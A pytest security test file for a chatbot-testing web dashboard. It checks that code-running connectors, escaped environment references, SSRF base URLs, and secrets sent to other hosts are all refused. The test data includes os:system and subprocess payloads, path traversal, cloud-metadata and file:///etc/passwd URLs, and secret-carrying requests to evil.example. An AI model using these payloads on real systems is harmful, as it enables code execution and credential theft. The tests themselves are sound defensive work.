"""The dashboard's execution policy attacked through its API (issue 32): every spelling of
a code-running feature is refused on save with a located problem, ``${NAME}`` written
with YAML escapes never reads the server's environment, and code settings are refused on
their typed value whatever their spelling."""

from __future__ import annotations

import json
from typing import Any

import pytest
from web_helpers import PROFILE, api, client_for

from sparring.web._files import save_file
from sparring.web._secrets import set_secret
from sparring.web.models import ProjectFile, Run

PYTHON_CHATBOTS = [
    "connector: python\nparams: {target: 'subprocess:getoutput'}\n",
    "{connector: python, params: {target: 'os:system'}}\n",
    '"connector": python\nparams: {target: "os:system"}\n',
    "connector: &c python\nparams: {target: 'os:system'}\n",
    "connector:\n  python\nparams: {target: 'os:system'}\n",
    'connector: "pyth\\x6fn"\nparams: {target: "os:system"}\n',
    "connector: >-\n  python\nparams: {target: 'os:system'}\n",
    "<<: {connector: python}\nparams: {target: 'os:system'}\n",
    "? connector\n: python\nparams: {target: 'os:system'}\n",
]


def _post_file(client: Any, project: Any, kind: str, name: str, content: str) -> Any:
    data = {"project": project.pk, "kind": kind, "name": name, "content": content}
    return api(client, "post", "/api/files/", data)


@pytest.mark.parametrize("content", PYTHON_CHATBOTS)
def test_no_spelling_of_the_python_connector_is_saved(world: dict[str, Any], content: str) -> None:
    """Any account can create a project it owns: none may save a code-running bot."""
    client = client_for(world["stranger"])
    response = _post_file(client, world["other"], "chatbot", "chatbot.yaml", content)
    assert response.status_code == 400, content
    problems = response.data["problems"]
    assert any(p["file"] == "chatbot.yaml" and p["key"] == "connector" for p in problems)
    assert not ProjectFile.objects.filter(project=world["other"]).exists()


GENERATOR = PROFILE.replace(
    'goals: ["I would like to order a pizza"]',
    'goals:\n    - "I want {{cmd}}"\n    - cmd:\n        function: forward()\n'
    '        type: string\n        data: {"fil\\x65": /usr/lib/python3.11/subprocess.py,'
    " function_name: getoutput, args: [id]}",
)


def test_a_generator_function_is_refused_on_save(world: dict[str, Any]) -> None:
    client = client_for(world["editor"])
    response = _post_file(client, world["project"], "profile", "profiles/p.yaml", GENERATOR)
    assert response.status_code == 400
    problems = response.data["problems"]
    assert any(p["key"].endswith("cmd.data.file") and p["line"] for p in problems), problems


def test_rule_functions_are_refused_on_save(world: dict[str, Any]) -> None:
    rules = '{"functions": [../../../usr/lib/x.py], rules: [{name: r, oracle: "True"}]}\n'
    client = client_for(world["editor"])
    response = _post_file(client, world["project"], "rules", "rules/r.yaml", rules)
    assert response.status_code == 400
    assert any(p["key"] == "functions" for p in response.data["problems"])


ESCAPED_HEADERS = [
    '"Bearer \\x24{SERVER_ONLY_KEY}"',
    '"Bearer \\u0024{SERVER_ONLY_KEY}"',
    '"Bearer $\\\n    {SERVER_ONLY_KEY}"',
    "'Bearer ${SERVER_ONLY_KEY}'",
]


@pytest.mark.parametrize("header", ESCAPED_HEADERS)
def test_an_escaped_variable_never_reads_the_servers_environment(
    world: dict[str, Any], header: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SERVER_ONLY_KEY", "server-value-1234567890")
    project, owner = world["project"], world["owner"]
    set_secret(project, "BOT_KEY", "project-value-12345678", owner)
    chatbot = (
        "connector: rest\nparams:\n  base_url: http://bot.example\n"
        f"  headers:\n    Authorization: {header}\n"
        "  send_message: {path: /chat, payload_template: {message: '{user_msg}'}}\n"
        "  response_path: reply\n"
    )
    save_file(project, "chatbot", "chatbot.yaml", chatbot, owner)
    save_file(project, "profile", "profiles/order.yaml", PROFILE, owner)
    settings = {"chatbot": "chatbot.yaml", "profiles": ["profiles"]}
    response = api(
        client_for(world["editor"]),
        "post",
        "/api/runs/",
        {"project": project.pk, "job": "simulate", "settings": settings},
    )
    assert response.status_code == 400, header
    text = json.dumps(response.data)
    assert "${SERVER_ONLY_KEY} is not a secret of this project" in text
    assert "params.headers.Authorization" in text
    assert not Run.objects.exists()


def test_variables_resolve_from_the_policys_secrets_only(monkeypatch: pytest.MonkeyPatch) -> None:
    """Even a reference that got past the launch check reads the job's secrets, never the
    process environment."""
    from sparring._policy import scoped
    from sparring.connectors import ChatbotConfig, create_connector
    from sparring.errors import ConfigError
    from sparring.web._files import policy_for

    monkeypatch.setenv("SERVER_ONLY_KEY", "server-value-1234567890")
    config = ChatbotConfig.model_validate(
        {
            "connector": "rest",
            "params": {
                "base_url": "http://bot.example",
                "headers": {"Authorization": "Bearer ${SERVER_ONLY_KEY}"},
                "send_message": {"path": "/c", "payload_template": {"m": "{user_msg}"}},
                "response_path": "reply",
            },
        }
    )
    with scoped(policy_for([], {"BOT_KEY": "x" * 12})), pytest.raises(ConfigError) as caught:
        create_connector(config)
    assert "SERVER_ONLY_KEY" in str(caught.value)
    assert "server-value" not in str(caught.value)


@pytest.mark.parametrize("spelling", ["true", "True", "yes", "on", 1])
def test_code_settings_are_refused_whatever_their_spelling(
    world: dict[str, Any], spelling: Any
) -> None:
    project, owner = world["project"], world["owner"]
    save_file(project, "chatbot", "chatbot.yaml", "connector: scripted\nparams: {}\n", owner)
    save_file(project, "rules", "rules/r.yaml", "rules: [{name: r, oracle: 'True'}]\n", owner)
    run = Run.objects.create(project=project, job="simulate", path="/nowhere", status="finished")
    response = api(
        client_for(world["editor"]),
        "post",
        f"/api/runs/{run.pk}/apply/",
        {"job": "check", "settings": {"rules": ["rules"], "trust_functions": spelling}},
    )
    assert response.status_code == 400, spelling
    assert "trust_functions" in json.dumps(response.data)


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:8080/v1",
        "http://localhost:11434/v1",
        "http://169.254.169.254/latest",
        "http://10.1.2.3/v1",
        "http://[::1]/v1",
        "http://2130706433/v1",
        "file:///etc/passwd",
    ],
)
def test_a_model_base_url_the_ssrf_policy_refuses_is_refused_at_launch(
    world: dict[str, Any], url: str
) -> None:
    """An editor cannot point the owner's model key at their own or an internal server."""
    from sparring._ssrf import NetworkPolicy, install_policy, installed_policy

    project, owner = world["project"], world["owner"]
    save_file(project, "chatbot", "chatbot.yaml", "connector: scripted\nparams: {}\n", owner)
    save_file(project, "profile", "profiles/order.yaml", PROFILE, owner)
    settings = {
        "chatbot": "chatbot.yaml",
        "profiles": ["profiles"],
        "model": "openai/gpt-4o-mini",
        "model_base_url": url,
    }
    before = installed_policy()
    install_policy(NetworkPolicy())  # as `sparring web` does, with no allow-list
    try:
        response = api(
            client_for(world["editor"]),
            "post",
            "/api/runs/",
            {"project": project.pk, "job": "simulate", "settings": settings},
        )
    finally:
        install_policy(before)
    assert response.status_code == 400, url
    assert "settings.model_base_url" in json.dumps(response.data)
    assert not Run.objects.exists()


@pytest.mark.parametrize(
    ("variable", "value", "said"),
    [
        ("SPARRING_WEB_FERNET_KEYS", "not-a-key", "key 1 is not a Fernet key"),
        ("SPARRING_WEB_FERNET_KEYS", "q5xH8l3rPa9eQ1l3Sx2K7T0m6b0uYV0cTqS9b6xN1Zs=,x", "key 2"),
        ("SPARRING_WEB_ALLOWED_HOSTS", "*", "wildcard"),
        ("SPARRING_WEB_ALLOWED_HOSTS", "dash.example.org,*.example.org", "wildcard"),
    ],
)
def test_the_production_gate_refuses_bad_keys_and_wildcard_hosts(
    monkeypatch: pytest.MonkeyPatch, variable: str, value: str, said: str
) -> None:
    from sparring.web._config import production_problems, read_config

    monkeypatch.setenv("SPARRING_WEB_SECRET_KEY", "a-long-and-varied-secret-key-" + "x1y2z3" * 8)
    monkeypatch.setenv("SPARRING_WEB_FERNET_KEYS", "q5xH8l3rPa9eQ1l3Sx2K7T0m6b0uYV0cTqS9b6xN1Zs=")
    monkeypatch.setenv("SPARRING_WEB_ALLOWED_HOSTS", "dash.example.org")
    assert production_problems(read_config(production=True)) == []  # the control
    monkeypatch.setenv(variable, value)
    messages = " ".join(p.message for p in production_problems(read_config(production=True)))
    assert said in messages


def test_runs_a_dead_server_left_running_are_settled_at_start(
    world: dict[str, Any], tmp_path: Any
) -> None:
    from sparring.web import _worker
    from sparring.web.models import RunJob

    folder = tmp_path / "run-1"
    folder.mkdir()
    (folder / "manifest.json").write_text("{}")
    project = world["project"]
    resumable = Run.objects.create(
        project=project, job="simulate", path=str(folder), status="running", handle="h1"
    )
    lost = Run.objects.create(
        project=project, job="simulate", path=str(tmp_path / "none"), status="running"
    )
    applied = RunJob.objects.create(run=resumable, job="check", status="running")
    assert _worker.settle_orphans() == (1, 2)
    assert Run.objects.get(pk=resumable.pk).status == "stopped"
    assert Run.objects.get(pk=lost.pk).status == "failed"
    assert "server stopped" in Run.objects.get(pk=lost.pk).error
    assert RunJob.objects.get(pk=applied.pk).status == "failed"
    editor = client_for(world["editor"])
    assert api(editor, "post", f"/api/runs/{resumable.pk}/resume/").status_code == 202


def _rest_chatbot(url: str, header: str = "Bearer ${BOT_KEY}") -> str:
    return (
        f"connector: rest\nparams:\n  base_url: {url}\n"
        f"  headers: {{X-Api-Key: '{header}'}}\n"
        "  send_message: {path: /chat, payload_template: {message: '{user_msg}'}}\n"
        "  response_path: reply\n"
    )


@pytest.mark.parametrize(
    "url",
    [
        "http://evil.example",
        "https://bot.example.evil.example",
        "http://bot.example@evil.example",
        "https://evil.example:443/bot.example",
        "http://${BOT_KEY}.evil.example",
    ],
)
def test_an_editor_cannot_send_a_bound_secret_to_another_host(
    world: dict[str, Any], url: str
) -> None:
    project, owner = world["project"], world["owner"]
    owner_client, editor = client_for(owner), client_for(world["editor"])
    created = api(
        owner_client,
        "post",
        "/api/secrets/",
        {"project": project.pk, "name": "BOT_KEY", "value": "k" * 24, "hosts": "bot.example"},
    )
    assert created.status_code == 201 and created.data["hosts"] == "bot.example"
    save_file(project, "profile", "profiles/order.yaml", PROFILE, owner)
    launch = {"project": project.pk, "job": "simulate"}
    launch["settings"] = {"chatbot": "chatbot.yaml", "profiles": ["profiles"]}
    save_file(project, "chatbot", "chatbot.yaml", _rest_chatbot("http://bot.example"), owner)
    assert api(editor, "post", "/api/runs/", launch).status_code == 201  # the control
    save_file(project, "chatbot", "chatbot.yaml", _rest_chatbot(url), world["editor"])
    response = api(editor, "post", "/api/runs/", launch)
    assert response.status_code == 400, url
    assert "may be sent only to bot.example" in json.dumps(response.data)


def test_secret_hosts_must_be_host_names(world: dict[str, Any]) -> None:
    owner = client_for(world["owner"])
    for hosts in ("*", "http://bot.example", "bot.example/path", "*.example.org"):
        data = {"project": world["project"].pk, "name": "K", "value": "v" * 12, "hosts": hosts}
        assert api(owner, "post", "/api/secrets/", data).status_code == 400, hosts


async def test_the_transport_refuses_a_request_carrying_a_bound_secret_elsewhere() -> None:
    """Whatever built the request (a template, a redirect hop), a bound secret in its URL,
    headers or body goes only to its hosts."""
    import httpx

    from sparring._policy import ExecutionPolicy, scoped
    from sparring._ssrf import AddressRefused, GuardedTransport, NetworkPolicy

    sent: list[str] = []

    def answer(request: httpx.Request) -> httpx.Response:
        sent.append(str(request.url.host))
        if request.url.path == "/redirect":
            return httpx.Response(302, headers={"Location": "http://evil.example/steal"})
        return httpx.Response(200, json={"reply": "ok"})

    async def public(host: str, port: int) -> list[Any]:
        import ipaddress

        return [ipaddress.ip_address("93.184.216.34")]

    secret = "bound-secret-value-123456"
    policy = ExecutionPolicy(
        run_code=False,
        secrets={"BOT_KEY": secret},
        secret_hosts={"BOT_KEY": frozenset({"bot.example"})},
    )
    transport = GuardedTransport(NetworkPolicy(), httpx.MockTransport(answer), resolver=public)
    with scoped(policy):
        async with httpx.AsyncClient(transport=transport, follow_redirects=True) as client:
            ok = await client.post("http://bot.example/chat", headers={"X-Api-Key": secret})
            assert ok.status_code == 200
            for call in (
                client.post("http://evil.example/chat", headers={"X-Api-Key": secret}),
                client.post("http://evil.example/chat", json={"key": secret}),
                client.get(f"http://evil.example/?k={secret}"),
                client.post("http://bot.example/redirect", headers={"X-Api-Key": secret}),
            ):
                with pytest.raises(AddressRefused, match=r"may be sent only to bot\.example"):
                    await call
    assert len(sent) == 2  # the allowed call and the redirecting one: nothing reached evil


HUGE = PROFILE.replace("number: 2", "number: 10000")


def test_a_run_past_the_quotas_is_refused_before_any_work(world: dict[str, Any]) -> None:
    """10,000 conversations × repeat 1000 at concurrency 100,000: refused at launch, both
    limits named, nothing queued, nothing planned."""
    project, owner = world["project"], world["owner"]
    save_file(project, "chatbot", "chatbot.yaml", "connector: scripted\nparams: {}\n", owner)
    save_file(project, "profile", "profiles/order.yaml", HUGE, owner)
    settings = {
        "chatbot": "chatbot.yaml",
        "profiles": ["profiles"],
        "repeat": 1000,
        "concurrency": 100000,
    }
    response = api(
        client_for(world["editor"]),
        "post",
        "/api/runs/",
        {"project": project.pk, "job": "simulate", "settings": settings},
    )
    assert response.status_code == 400
    text = json.dumps(response.data)
    assert "settings.concurrency" in text and "plans 10,000,000 conversations" in text
    assert not Run.objects.exists()


def test_an_owners_quota_is_kept_within_the_servers(
    world: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    from sparring.web._quotas import project_limits

    project = world["project"]
    monkeypatch.setenv("SPARRING_WEB_MAX_CONVERSATIONS", "50")
    project.max_conversations = 1
    assert project_limits(project).conversations == 1
    project.max_conversations = 10**6  # above the server's: the server's wins
    assert project_limits(project).conversations == 50
    save_file(
        project, "chatbot", "chatbot.yaml", "connector: scripted\nparams: {}\n", world["owner"]
    )
    save_file(project, "profile", "profiles/order.yaml", PROFILE, world["owner"])
    project.max_conversations = 1
    project.save()
    settings = {"chatbot": "chatbot.yaml", "profiles": ["profiles"]}
    launch = {"project": project.pk, "job": "simulate", "settings": settings}
    response = api(client_for(world["editor"]), "post", "/api/runs/", launch)
    assert response.status_code == 400 and "plans 2 conversations" in json.dumps(response.data)
    project.max_conversations = 2
    project.save()
    assert api(client_for(world["editor"]), "post", "/api/runs/", launch).status_code == 201


def test_a_project_whose_runs_are_full_launches_nothing(world: dict[str, Any]) -> None:
    from django.conf import settings as django_settings

    project = world["project"]
    save_file(
        project, "chatbot", "chatbot.yaml", "connector: scripted\nparams: {}\n", world["owner"]
    )
    save_file(project, "profile", "profiles/order.yaml", PROFILE, world["owner"])
    project.max_stored_mb = 1
    project.save()
    old = django_settings.RUNS_DIR / str(project.pk) / "1-old"
    old.mkdir(parents=True)
    (old / "conversations.jsonl").write_bytes(b"x" * (2 * 1024 * 1024))
    settings = {"chatbot": "chatbot.yaml", "profiles": ["profiles"]}
    launch = {"project": project.pk, "job": "simulate", "settings": settings}
    response = api(client_for(world["editor"]), "post", "/api/runs/", launch)
    assert response.status_code == 400 and "delete runs first" in json.dumps(response.data)


def test_a_job_that_ignores_stop_is_ended_and_left_resumable() -> None:
    """A job busy planning (here: a process that never reads its stop) is ended after the
    grace period; the run is ``stopped``, not stuck at ``running``."""
    import sys
    import time

    from sparring.web._job_process import ProcessExecutor

    deaf = [sys.executable, "-c", "import sys, time\nsys.stdin.readline()\ntime.sleep(120)"]
    executor = ProcessExecutor(stop_grace=0.2, command=deaf)
    handle = executor.submit("simulate", {}, __import__("pathlib").Path("/nonexistent/run"))
    assert executor.status(handle) == "running"
    executor.stop(handle)
    for _ in range(300):  # the process ends after its grace; wait for the reader to see it
        if executor.status(handle) != "running":
            break
        time.sleep(0.1)
    assert executor.status(handle) == "stopped"


@pytest.mark.django_db(transaction=True)
def test_a_job_past_its_run_time_is_stopped_with_the_reason(world: dict[str, Any]) -> None:
    from sparring.jobs import JobStatus
    from sparring.jobs.events import Finished
    from sparring.web import _worker

    class Endless:
        """An executor whose job runs until it is asked to stop."""

        def __init__(self) -> None:
            self.stopped: list[str] = []
            self.listeners: list[Any] = []

        def submit(self, job: str, settings: dict[str, Any], run_dir: Any) -> str:
            return "h1"

        def resume(self, run_dir: Any) -> str:
            return "h1"

        def stop(self, handle: str) -> None:
            self.stopped.append(handle)
            for listener in self.listeners:  # it ends as asked
                listener(Finished(status=JobStatus.STOPPED))

        def status(self, handle: str) -> str:
            return "stopped" if self.stopped else "running"

        def error(self, handle: str) -> BaseException | None:
            return None

        def watch(self, handle: str, listener: Any) -> None:
            self.listeners.append(listener)

    project = world["project"]
    project.max_run_seconds = 1
    project.save()
    run = Run.objects.create(project=project, job="simulate", path="/nowhere", status="queued")
    executor = Endless()
    _worker.Worker(executor=executor).run_one(run.pk)
    ended = Run.objects.get(pk=run.pk)
    assert executor.stopped == ["h1"]
    assert ended.status == "stopped" and "1 s (quota)" in ended.error


def test_only_the_owner_sets_the_projects_quotas(world: dict[str, Any]) -> None:
    project = world["project"]
    url = f"/api/projects/{project.pk}/"
    editor = api(client_for(world["editor"]), "patch", url, {"max_concurrency": 64})
    assert editor.status_code == 403
    owner = api(client_for(world["owner"]), "patch", url, {"max_concurrency": 2})
    assert owner.status_code == 200 and owner.data["max_concurrency"] == 2
    project.refresh_from_db()
    assert project.max_concurrency == 2


def test_the_api_never_shows_the_servers_folders(world: dict[str, Any]) -> None:
    from django.conf import settings as django_settings

    project, owner = world["project"], world["owner"]
    save_file(project, "chatbot", "chatbot.yaml", "connector: scripted\nparams: {}\n", owner)
    save_file(project, "profile", "profiles/order.yaml", PROFILE, owner)
    settings = {"chatbot": "chatbot.yaml", "profiles": ["profiles"]}
    editor = client_for(world["editor"])
    created = api(
        editor,
        "post",
        "/api/runs/",
        {"project": project.pk, "job": "simulate", "settings": settings},
    )
    assert created.status_code == 201
    shown = api(editor, "get", f"/api/runs/{created.data['id']}/").data["settings"]
    assert shown["chatbot"] == "chatbot.yaml" and shown["profiles"] == ["profiles"]
    assert str(django_settings.RUNS_DIR) not in json.dumps(created.data) + json.dumps(shown)


def test_one_projects_jobs_never_take_every_slot(
    world: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Jobs run ``slots()`` at once with job processes, at most one per project: a second
    job of a busy project waits, another project's job goes ahead."""
    from sparring.web import _worker
    from sparring.web._job_process import ProcessExecutor

    mine = [
        Run.objects.create(project=world["project"], job="simulate", path="/a", status="queued")
        for _ in range(2)
    ]
    theirs = Run.objects.create(project=world["other"], job="simulate", path="/b", status="queued")
    monkeypatch.setenv("SPARRING_WEB_JOB_SLOTS", "3")
    worker = _worker.Worker(executor=ProcessExecutor())
    assert worker.slots() == 3
    assert _worker.Worker(executor=_worker.in_process_executor()).slots() == 1
    first = worker._claim("run", mine[0].pk)
    assert first is not None
    assert worker._claim("run", mine[1].pk) is None  # its project is busy: it waits
    assert worker._claim("run", theirs.pk) is not None  # another project goes ahead
